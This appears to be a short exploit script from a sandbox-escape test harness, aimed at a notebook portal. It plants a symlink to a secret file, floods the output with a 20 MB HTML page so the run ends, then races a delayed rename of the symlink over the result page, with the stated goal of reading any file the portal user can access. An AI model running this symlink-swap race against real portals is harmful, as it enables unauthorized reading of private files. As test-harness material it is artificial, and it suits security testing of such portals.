"""Ends by itself with a large page; a chain outlives it and renames a link over the page.

gains: any file that the portal's user can read, as a result
needs: chain
limits: timeout_s=10
repeat: 30
ends: any
"""

from IPython.display import HTML, display

os.symlink(V["secret"], "link")
display(HTML("x" * 20_000_000))
chain(1000 + 150 * ROUND, "/bin/mv", "-T", "link", "../result.html")
